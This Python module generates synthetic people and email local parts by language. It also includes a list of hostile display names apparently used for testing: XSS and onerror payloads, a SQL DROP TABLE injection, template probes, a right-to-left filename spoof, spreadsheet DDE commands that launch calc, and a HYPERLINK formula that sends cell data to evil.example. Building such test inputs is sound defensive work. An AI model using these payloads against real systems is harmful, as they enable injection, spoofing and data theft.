"""Names of people by language (``names.toml``), and names that try to break a page."""

from __future__ import annotations

import random
import tomllib
from pathlib import Path

_FOLD = str.maketrans(
    {
        "ä": "ae", "ö": "oe", "ü": "ue", "ß": "ss", "å": "aa", "ø": "oe", "æ": "ae", "é": "e",
        "ł": "l", "ą": "a", "ę": "e", "ó": "o", "ś": "s", "ż": "z", "ź": "z", "ć": "c", "ń": "n",
    }
)  # fmt: skip

TABLE = Path(__file__).with_name("names.toml")

Person = tuple[str, str, str]
"""Given name, surname, and the part of an address before the ``@``."""

HOSTILE: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '=HYPERLINK("https://evil.example/?"&A1,"Open me")',
    "\u200f\u202eexe.gpj\u202c Anna",
    '"><img src=x onerror=alert(document.domain)>',
    "Robert'); DROP TABLE users;--",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "-2+3+cmd|'/C calc'!A0\tTab\nNew line",
)
"""Display names that markup, spreadsheets, templates, SQL or the eye may take for something else."""


def _pair(word: str) -> tuple[str, str]:
    shown, _, plain = word.partition(":")
    return shown, plain or shown.lower().translate(_FOLD)


def people(language: str, count: int, rng: random.Random) -> list[Person]:
    """Return that many people; local parts are unique and ASCII."""
    table = tomllib.loads(TABLE.read_text("utf-8"))[language]
    first, last = ([_pair(word) for word in table[part].split()] for part in ("given", "family"))
    every = [(f[0], s[0], f"{f[1]}.{s[1]}") for f in first for s in last]
    rng.shuffle(every)
    rounds, found = 1, list(every)
    while len(found) < count:
        rounds += 1
        found += [(given, surname, f"{local}{rounds}") for given, surname, local in every]
    return found[:count]
